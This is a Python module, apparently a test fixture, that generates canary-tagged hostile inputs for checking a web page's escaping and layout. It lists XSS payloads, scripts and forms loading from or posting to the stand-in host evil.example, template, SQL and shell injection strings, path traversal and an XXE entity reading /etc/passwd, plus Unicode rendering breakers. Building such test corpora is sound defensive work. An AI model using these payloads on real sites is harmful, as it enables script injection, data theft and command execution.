"""What people may write to make a page run it, or to break its picture. `{c}` is each text's own canary."""

from __future__ import annotations

from itertools import product

TAGS = (
    "<script>alert('{c}')</script>", "<SCRIPT>alert('{c}')</SCRIPT>",
    "<script src=//evil.example/{c}.js></script>",
    "<scr<script>ipt>alert('{c}')</scr</script>ipt>", "<script\x0c>alert('{c}')</script>",
    "<script/x>alert('{c}')",
    "</script><script>alert('{c}')</script>", "</title><script>alert('{c}')</script>",
    "</textarea><script>alert('{c}')</script>", "</style><script>alert('{c}')</script>",
    "--><script>alert('{c}')</script>", "]]><script>alert('{c}')</script>",
    "<!--<script>alert('{c}')//--></script>",
    "</option></select><script>alert('{c}')</script>", "</noscript><script>alert('{c}')</script>",
    "</template><script>alert('{c}')</script>", "<script type=module>alert('{c}')</script>",
    "<script type=application/json>{c}</script>", "<script nonce=x>alert('{c}')</script>",
    "<img src={c} onerror=alert('{c}')>", "<img src={c} onerror=alert`{c}`>",
    "<IMG SRC=javascript:alert('{c}')>",
    "<img/src={c}/onerror=alert('{c}')>", "<img src='{c}'onerror=alert(1)>",
    "<img srcset={c} onerror=alert(1)>",
    "<image href={c} onerror=alert('{c}')>", "<img src=x:{c} onerror=alert(1)//>",
    "<img src=//evil.example/{c}.png>",
    "<svg onload=alert('{c}')>", "<svg/onload=alert('{c}')>", "<svg><script>alert('{c}')</script></svg>",
    "<svg><script href=data:,alert('{c}') /></svg>",
    "<svg><animate onbegin=alert('{c}') attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert('{c}')><text y=20>{c}</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='{c}' onload='alert(1)'/>#{c}\" /></svg>",
    "<svg><foreignObject><body onload=alert('{c}')></foreignObject></svg>",
    "<svg><style>{c}</style><title><img></svg>",
    "<svg><set attributeName=onmouseover to=alert('{c}')></svg>",
    "<svg><desc><![CDATA[</desc><script>{c}</script>]]>",
    "<math><mi xlink:href=\"javascript:alert('{c}')\">{c}</mi></math>",
    "<math><mtext><table><mglyph><style><img src={c} onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<body onload=alert('{c}')>", "<body onpageshow=alert('{c}')>", "<html onclick=alert('{c}')>",
    "<iframe src=javascript:alert('{c}')></iframe>",
    "<iframe srcdoc=\"<script>alert('{c}')</script>\"></iframe>",
    "<iframe src=//evil.example/{c}></iframe>", "<object data=javascript:alert('{c}')></object>",
    "<object data=data:text/html,{c}></object>", "<embed src=javascript:alert('{c}')>", "<applet code={c}>",
    "<video><source onerror=alert('{c}')></video>", "<audio src={c} onerror=alert('{c}')>",
    "<video poster={c}>",
    "<details open ontoggle=alert('{c}')>{c}</details>", "<marquee onstart=alert('{c}')>{c}</marquee>",
    "<input autofocus onfocus=alert('{c}')>", "<select autofocus onfocus=alert('{c}')>",
    "<keygen autofocus name={c}>",
    "<textarea autofocus onfocus=alert('{c}')>", "<button autofocus onfocus=alert('{c}')>{c}</button>",
    "<a href=javascript:alert('{c}')>{c}</a>", "<a href='  javascript:alert(\"{c}\")'>{c}</a>",
    "<a href=jav&#x09;ascript:alert('{c}')>{c}</a>", "<a href=JaVaScRiPt:alert('{c}')>{c}</a>",
    "<a href=data:text/html,<script>alert('{c}')</script>>{c}</a>", "<a href=//evil.example/{c}>{c}</a>",
    "<a href=vbscript:msgbox('{c}')>{c}</a>", "<a ping=//evil.example/{c} href=/>{c}</a>",
    "<a id=main name={c}>{c}</a>",
    "<form action=javascript:alert('{c}')><button>{c}</button></form>",
    "<form action=//evil.example/{c}><input name=p>",
    "<button formaction=javascript:alert('{c}')>{c}</button>", "<isindex action=javascript:alert('{c}')>",
    "<base href=//evil.example/{c}/>", "<link rel=stylesheet href=//evil.example/{c}.css>",
    "<link rel=import href={c}>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(\"{c}\")'>", "<meta charset=utf-7 name={c}>",
    "<meta http-equiv=Set-Cookie content='cg_device={c}'>", "<style>@import '//evil.example/{c}.css';</style>",
    "<style>*{{display:none}}/*{c}*/</style>", "<p style=\"background:url(javascript:alert('{c}'))\">{c}</p>",
    "<div style=position:fixed;inset:0;z-index:9>{c}</div>", "<xss onafterscriptexecute=alert('{c}')>{c}</xss>",
    "<custom-{c} onclick=alert(1)>", "<x contenteditable onblur=alert('{c}')>{c}</x>",
    "<x tabindex=1 onfocus=alert('{c}')>",
    "<portal src=//evil.example/{c}>", "<frameset onload=alert('{c}')>",
    "<bgsound src=javascript:alert('{c}')>",
    "<template shadowrootmode=open><script>alert('{c}')</script></template>",
    "<slot onslotchange=alert('{c}')>{c}",
    "<dialog open oncancel=alert('{c}')>{c}</dialog>", "<div popover onbeforetoggle=alert('{c}')>{c}</div>",
    "<div hx-get=/sign-out hx-trigger=load>{c}</div>", "<div hx-on:click=alert('{c}')>{c}</div>",
    "<div hx-ws:connect=//evil.example/{c}></div>", "<hx-partial hx-target=body>{c}</hx-partial>",
    "<div id=now hx-swap-oob=true>{c}</div>", "<div data-live=x data-{c}=1>", "<plaintext>{c}", "<xmp>{c}",
    "<listing>{c}",
    "<table><td background=javascript:alert('{c}')>{c}",
    "<noscript><p title=\"</noscript><img src={c} onerror=alert(1)>\">",
    "<?xml version='1.0'?><{c}/>", "<!DOCTYPE {c} [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<![CDATA[{c}]]>",
    "<{c}", "</{c}>", "<{c} />", "<!-- {c}", "<! {c}", "<%{c}%>", "<\x0b{c}>", "<a{c}=1>",
)  # fmt: skip

ATTRIBUTES = [
    f"{quote}{gap}{what}{end}"
    for quote, gap, (what, end) in product(
        ('"', "'", "`"), (" ", "/", "\n"),
        (("onmouseover=alert('{c}') x=", ""), ("autofocus onfocus=alert('{c}')", " "), (">",
    "<script>alert('{c}')</script>")),
    )
]  # fmt: skip

CODE = (
    "{{{{ '{c}' * 7 }}}}", "{{% print('{c}') %}}", "${{'{c}'.repeat(9)}}", "#{{'{c}'}}", "{{{{ config }}}} {c}",
    "{{{{ ''.__class__.__mro__ }}}} {c}", "{{# {c} #}}", "{{{{ self._TemplateReference__context }}}} {c}",
    "%(c)s %s %d {c}", "{{0}} {{c}} {{}} {c}", "{{wide}} {{longest}} {c}",
    "\\u003cscript\\u003ealert('{c}')\\u003c/script\\u003e",
    "\\x3cscript\\x3e{c}", "&lt;script&gt;alert('{c}')&lt;/script&gt;",
    "&#60;script&#62;alert('{c}')&#60;/script&#62;",
    "&lt{c}", "&amp;lt;{c}", "%3Cscript%3E{c}%3C/script%3E", "+ADw-script+AD4-alert('{c}')+ADw-/script+AD4-",
    "';alert('{c}');//", "\";alert('{c}');//", "\\';alert('{c}');//", "`${{alert('{c}')}}`",
    "');alert('{c}');('",
    "javascript:alert('{c}')", "data:text/html,<script>alert('{c}')</script>", "*/alert('{c}')/*",
    "\u2028alert('{c}')",
    "';DROP TABLE answer;-- {c}", "' OR '1'='1 {c}", "*)(uid=*)) {c}", "$(touch {c})", "`id` {c}", "| {c}",
    "; {c} #",
    "../../../../etc/passwd {c}", "..\\..\\{c}", "{c}.csv\r\nSet-Cookie: cg_signed_in={c}",
    "{c}\r\n\r\n<script>alert(1)</script>",
    "__proto__ {c}", "constructor {c}", "[object Object] {c}", "null {c}", "undefined {c}", "{c}\x1b[31m red",
    "[{c}](javascript:alert(1))", "![{c}](//evil.example/x.png)", "<<{c}>>", "＜script＞alert('{c}')＜/script＞",
    "‹script›{c}", "ʺ onmouseover=alert('{c}')", "\ufeff<script>alert('{c}')</script>",
    "\u00ad<script>alert('{c}')</script>",
)  # fmt: skip

ODD = (
    "\u202e{c} backwards from here", "\u202d\u202e\u2066{c} never closed", "{c} \u2067isolated",
    "\u200f{c}\u200e",
    "{c} zero\u200b\u200b\u200bwidth", "{c}\u200d\u200d\u200dj", "{c}\u2060\u2060",
    "{c} " + "e" + "\u0301" * 1_900,
    "{c} " + "Z\u0351\u0334\u0359" * 480, "{c}" + "W" * 1_900, "{c} " + "ﷺ" * 400, "{c} " + "𒐫" * 200,
    "{c} " + "👩‍👩‍👧‍👦" * 60, "مرحبا {c} שלום",
    "{c} " + "\u0e4e" * 500, "{c}" + "-" * 900, "{c} " + "\u3000" * 300 + "end",
    "{c} " + "\u2800" * 300 + "end", "{c} ⁦RLI⁩ ŵŷ “quoted”", "{c} line\nline\nline", "{c}\t\ttabs",
    "{c}\u0085next", "{c}\u2029para",
)  # fmt: skip
"""These run nothing: they push, stack and turn letters."""


def all_of_them() -> list[str]:
    """Every text with a canary of its own, cg0z, cg1z, …"""
    return [text.format(c=f"cg{n}z") for n, text in enumerate((*TAGS, *ATTRIBUTES, *CODE, *ODD))]
